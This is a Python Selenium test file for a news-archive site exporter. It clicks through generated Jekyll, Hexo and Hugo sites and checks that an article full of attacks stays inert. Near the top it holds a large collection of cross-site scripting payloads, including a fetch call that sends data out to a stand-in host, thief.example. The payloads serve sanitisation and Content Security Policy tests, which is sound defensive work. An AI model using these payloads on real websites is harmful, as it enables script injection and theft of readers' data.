"""The sites as a reader sees them: a real browser clicks through the demo's articles.

One site of each generator is begun, filled and built as docs/sites.md says. Beside the demo's
articles it holds one whose body, title and names are attacks (faults I): nothing of it runs.
"""

import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from selenium.common.exceptions import StaleElementReferenceException, WebDriverException
from selenium.webdriver import Chrome, Keys
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.wait import WebDriverWait

from newscrawl.archive import Archive
from newscrawl.config import Config, Site
from newscrawl.export import Exporter
from newscrawl.pipelines.placement import placement
from newscrawl.sites import GENERATORS, check_site
from tests.sites.browser import (
    DESKTOP,
    PHONE,
    Elsewhere,
    browser,
    complaints,
    elsewhere,
    overflow,
    resize,
    served,
)
from tests.sites.builders import BUILDERS, begin
from tests.sites.corpus import article

pytestmark = [pytest.mark.slow, pytest.mark.sites, pytest.mark.browser]

ARTICLES = 100
PATHS = {"jekyll": "", "hexo": "/news", "hugo": "/a/b"}
"""Where each site lies on its host: at its root, and below it."""

SCRIPT = "window.ran=1;alert(1);fetch('https://thief.example/stolen')"
ATTACK = f"""
<p>攻击开始</p><script>{SCRIPT}</script><script src="https://thief.example/a.js"></script>
<img src=x onerror="{SCRIPT}"><img src="https://img.example.com/ok.png" onload="{SCRIPT}">
<a href="javascript:{SCRIPT}">甲</a><a href="jav&#x09;ascript:{SCRIPT}">乙</a>
<a href="data:text/html,<script>{SCRIPT}</script>">丙</a><a href="&#1;javascript:{SCRIPT}">丁</a>
<svg onload="{SCRIPT}"><script>{SCRIPT}</script><animate onbegin="{SCRIPT}"></svg>
<math><mi xlink:href="javascript:{SCRIPT}">x</mi></math><base href="https://thief.example/">
<meta http-equiv="refresh" content="0;url=https://thief.example/"><form action="//thief.example">
<input autofocus onfocus="{SCRIPT}"><button formaction="javascript:{SCRIPT}">戊</button></form>
<object data="https://thief.example/o"></object><embed src="https://thief.example/e">
<iframe src="https://thief.example/f" srcdoc="<script>{SCRIPT}</script>"></iframe>
<p style="background:url(https://thief.example/css);width:expression({SCRIPT})">己</p>
<style>@import url(https://thief.example/s.css);p{{background:url(https://thief.example/b)}}</style>
<link rel="stylesheet" href="https://thief.example/l.css"><video autoplay onplay="{SCRIPT}"
src="https://thief.example/v"><source onerror="{SCRIPT}"></video>
<noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></p></noscript>
<svg><style><img src=x onerror="{SCRIPT}"></style></svg>
<textarea></textarea><img src=x onerror="{SCRIPT}"></textarea>
<details open ontoggle="{SCRIPT}"><summary>庚</summary></details><marquee onstart="{SCRIPT}">辛
</marquee><img srcset="https://img.example.com/one.png 1x"><img src="https://thief.example/t.gif"
width="1" height="1"><body onload="{SCRIPT}"><p>攻击结束</p>
<math><mtext><table><mglyph><style><!--</style><img src=x onerror="{SCRIPT}">
</table></mtext></math>
"""
NAME = f'"><img src=x onerror="{SCRIPT}"><script>{SCRIPT}</script>'


@dataclass(frozen=True)
class Visited:
    """A built site. url: of its home page; output: its files."""

    name: str
    url: str
    output: Path


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the archive of the demo, with the article of attacks as its newest."""
    folder = tmp_path_factory.mktemp("demo")
    command = [sys.executable, "-m", "newscrawl", "demo", "--articles", str(ARTICLES)]
    subprocess.run([*command, "--output", str(folder)], check=True, capture_output=True)
    return folder / "archive.db"


@pytest.fixture(scope="module", params=list(GENERATORS))
def visited(
    request: pytest.FixtureRequest, demo: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Visited]:
    generator = BUILDERS[request.param]()
    folder = tmp_path_factory.mktemp("site")
    path = PATHS[generator.name]
    root = folder / "host"
    output = root / path.strip("/")
    output.parent.mkdir(parents=True, exist_ok=True)
    with served(root) as port:
        base = f"http://127.0.0.1:{port}{path}"
        site = begin(generator.name, folder / "site", base)
        fill(site, generator.name, demo, Config(site=Site(base=base)))
        generator.build(site, "America/New_York")
        assert check_site(site, now=datetime.now(UTC) + timedelta(days=3650)).findings == []
        if path:
            output.symlink_to(site / generator.output)
        else:
            root.symlink_to(site / generator.output)
        yield Visited(generator.name, f"{base}/", site / generator.output)


def fill(site: Path, dialect: str, demo: Path, config: Config) -> None:
    """Write the demo's posts and that of the attacks, as ``newscrawl export --out`` does."""
    with Archive.open(demo) as archive:
        articles = list(archive.articles())
        newest = max(each.article.published_at for each in articles if each.article.published_at)
        attack = article(
            ARTICLES + 9000,
            ATTACK,
            source="sina_finance",
            section=None,
            title=f"攻击{NAME}",
            media=f"甲{NAME}",
            author=NAME,
            editor=NAME,
            original_title=NAME,
            summary=NAME,
            keywords=[NAME],
            published_at=newest + timedelta(minutes=1),
            fetched_at=newest + timedelta(minutes=2),
        )
        place = placement(config)
        with Exporter(archive, dialect, site, place=place, config=config) as exporter:
            counts = exporter.write([*articles, attack])
    assert counts.written == len(articles) + 1


@pytest.fixture(scope="module")
def beyond(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Elsewhere]:
    with elsewhere(tmp_path_factory.mktemp("elsewhere")) as server:
        yield server


@pytest.fixture(scope="module")
def module_window(beyond: Elsewhere, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
    with browser(tmp_path_factory.mktemp("profile"), beyond) as opened:
        yield opened


@pytest.fixture
def window(module_window: Chrome, beyond: Elsewhere) -> Iterator[Chrome]:
    """Yield a desktop window; afterwards its console must have had nothing to say."""
    resize(module_window, DESKTOP)
    module_window.get("about:blank")
    complaints(module_window)
    beyond.asked.clear()
    yield module_window
    assert complaints(module_window) == []


def one(window: Chrome, selector: str) -> WebElement:
    return window.find_element(By.CSS_SELECTOR, selector)


def texts(window: Chrome, selector: str) -> list[str]:
    return [each.text for each in window.find_elements(By.CSS_SELECTOR, selector)]


@pytest.mark.parametrize("width", [PHONE, DESKTOP])
def test_a_reader_goes_from_home_to_category_to_article_and_back(
    visited: Visited, window: Chrome, width: int
) -> None:
    resize(window, width)
    window.get(visited.url)
    first = texts(window, ".posts a")
    assert len(first) == 30
    one(window, ".pages a").click()
    assert texts(window, ".pages .now") != ["1 / 1"]
    assert not set(first) & set(texts(window, ".posts a"))
    one(window, "a.brand").click()
    assert texts(window, ".posts a") == first
    one(window, "nav a").click()
    category = one(window, ".terms a")
    name, number = category.text, int(one(window, ".terms span").text)
    category.click()
    assert texts(window, "h1") == [name]
    listed = texts(window, ".posts a")
    assert len(listed) == min(number, 30)
    one(window, ".posts a").click()
    assert texts(window, "article h1") == listed[:1]
    assert name in texts(window, "article .meta a.category")
    assert len(one(window, "article .content").text) > 20
    window.back()
    assert texts(window, ".posts a") == listed


def wait_for(window: Chrome, condition: Callable[[], bool]) -> None:
    """Wait until a page that the Enter key asked for shows what it must.

    Until then the elements are those of the page before, which may go while they are read.
    """

    def shows(_: Chrome) -> bool:
        try:
            return condition()
        except StaleElementReferenceException:
            return False
        except WebDriverException as error:  # the same, as Chrome's inspector tells it at times
            if "does not belong to the document" not in str(error):
                raise
            return False

    WebDriverWait(window, 20).until(shows)


@pytest.mark.parametrize("width", [PHONE, DESKTOP])
def test_search_finds_titles_and_shows_them_as_text(
    visited: Visited, window: Chrome, width: int
) -> None:
    resize(window, width)
    window.get(visited.url)
    title = texts(window, ".posts a")[1]
    one(window, "input[name=q]").send_keys(title, Keys.ENTER)
    wait_for(window, lambda: title in texts(window, "#results a"))
    field = one(window, "input[name=q]")
    assert field.get_attribute("value") == title
    field.clear()
    field.send_keys("<script>", Keys.ENTER)
    wait_for(window, lambda: texts(window, "#results a") == [f"攻击{NAME}"])
    one(window, "#results a").click()
    assert texts(window, "article h1") == [f"攻击{NAME}"]


def test_no_page_is_wider_than_a_phone(visited: Visited, window: Chrome) -> None:
    resize(window, PHONE)
    pages = sorted(visited.output.rglob("*.html"))
    assert len(pages) > ARTICLES / 2
    for page in pages:
        address = str(page.relative_to(visited.output))
        if "/page/1/" in f"/{address}":
            continue  # an address that only leads on to the list's own
        window.get(visited.url + address)
        assert overflow(window) == 0, address
        assert complaints(window) == [], address


def test_H95_H96_H97_nothing_of_an_article_runs(
    visited: Visited, window: Chrome, beyond: Elsewhere
) -> None:
    window.get(visited.url)
    link = window.find_elements(By.CSS_SELECTOR, ".posts a")[0]
    assert link.text == f"攻击{NAME}"
    link.click()
    content = one(window, "article .content")
    assert "攻击开始" in content.text
    assert "攻击结束" in content.text
    for each in content.find_elements(By.CSS_SELECTOR, "a"):
        assert re.match(r"https?://", each.get_attribute("href") or "http://")
    for each in content.find_elements(By.XPATH, ".//a[not(@href)] | .//summary | .//p"):
        window.execute_script("arguments[0].click()", each)
    window.execute_async_script("setTimeout(arguments[0], 300)")
    assert window.execute_script("return window.ran") is None
    assert not window.find_elements(By.CSS_SELECTOR, "article script, article iframe, article svg")
    hosts = {address.split("/")[0] for address, _ in beyond.asked}
    assert hosts <= {"img.example.com", "finance.example.com"}
    assert "img.example.com" in hosts


def test_H97_the_policy_of_the_pages_stops_what_cleaning_would_have_missed(
    visited: Visited, module_window: Chrome, beyond: Elsewhere
) -> None:
    """The body of the attacks, put into a page uncleaned: the second wall holds by itself."""
    resize(module_window, DESKTOP)
    module_window.get(visited.url)
    beyond.asked.clear()
    attack = ATTACK.replace("<meta ", "<i ")  # only the page's own head may send it elsewhere
    module_window.execute_script("document.querySelector('main').innerHTML = arguments[0]", attack)
    module_window.execute_script(
        "const made = document.createElement('script'); made.textContent = arguments[0];"
        "document.body.append(made)",
        SCRIPT,
    )
    module_window.execute_async_script("setTimeout(arguments[0], 300)")
    assert module_window.execute_script("return window.ran") is None
    refused = complaints(module_window)
    assert any("Content Security Policy" in line for line in refused)
    kinds = {address.partition("/")[2] for address, _ in beyond.asked}
    assert not kinds & {"stolen", "a.js", "s.css", "l.css", "f", "o", "e", "v"}


def test_pages_ask_nobody_but_the_publishers_for_pictures(
    visited: Visited, window: Chrome, beyond: Elsewhere
) -> None:
    own = f"{visited.url.split('//')[1].split('/')[0]}/"
    pictures = set()
    pages = sorted(visited.output.rglob("*.html"))
    illustrated = [page for page in pages if "<img " in page.read_text("utf-8")]
    for page in [*illustrated[:30], *pages[:10]]:
        window.get(visited.url + str(page.relative_to(visited.output)))
        for image in window.find_elements(By.CSS_SELECTOR, ".content img"):
            pictures.add((image.get_attribute("src") or "").split("://")[1])
    asked = {address for address, _ in beyond.asked}
    assert asked <= {address for address in pictures if not address.startswith(own)}
    assert asked
    assert {referrer for _, referrer in beyond.asked} == {None}


def test_a_page_is_dark_where_the_reader_wants_it(visited: Visited, window: Chrome) -> None:
    seen = []
    for dark in (False, True):
        resize(window, PHONE, dark=dark)
        window.get(visited.url)
        seen.append(one(window, "body").value_of_css_property("background-color"))
    light, night = (sum(map(int, re.findall(r"\d+", each)[:3])) for each in seen)
    assert light > 700
    assert night < 100
